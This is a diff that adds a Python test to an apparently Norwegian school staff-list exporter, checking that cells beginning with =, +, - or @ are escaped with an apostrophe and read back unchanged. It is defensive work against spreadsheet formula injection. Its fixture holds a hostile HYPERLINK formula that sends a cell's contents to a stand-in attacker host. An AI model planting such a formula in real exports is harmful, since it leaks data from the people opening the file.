@@ -357,3 +357,17 @@ def test_a_task_whose_case_is_busy_is_named_and_the_import_still_stands(kap12, d
     assert (result.let_go, [t.case_number for t in result.not_let_go]) == ([], [case.number])
     monkeypatch.setattr(kap12.writer, "step", step)
     assert [t.case_number for t in _import(kap12, _file(kap12)).let_go] == [case.number]
+
+
+def test_no_cell_of_the_list_is_a_formula_and_the_list_reads_back_the_same():
+    """A display name from the county's log-in service reaches the list an administrator opens
+    in a spreadsheet: one beginning with «=» would run there as a formula. Such a cell is written
+    behind an apostrophe, and reading the file back takes it off."""
+    lines = [staff_file.StaffLine(2, "ola", '=HYPERLINK("https://angriper.example/?"&A1;"Ola")', None, "@Nordli skole",
+                                  ("ansatt",), "+47"),
+             staff_file.StaffLine(3, "kari", "Kari Lærer", "kari@skole.no", "Nordli skole", ("rektor",), None)]
+    text = staff_file.write(lines)
+    data_rows = text.splitlines()[1:]
+    assert all(cell.lstrip('"')[:1] not in ("=", "+", "-", "@") for row in data_rows for cell in row.split(";"))
+    assert "'=HYPERLINK" in text and "'@Nordli skole" in text and "'+47" in text
+    assert staff_file.read(text.encode()) == lines
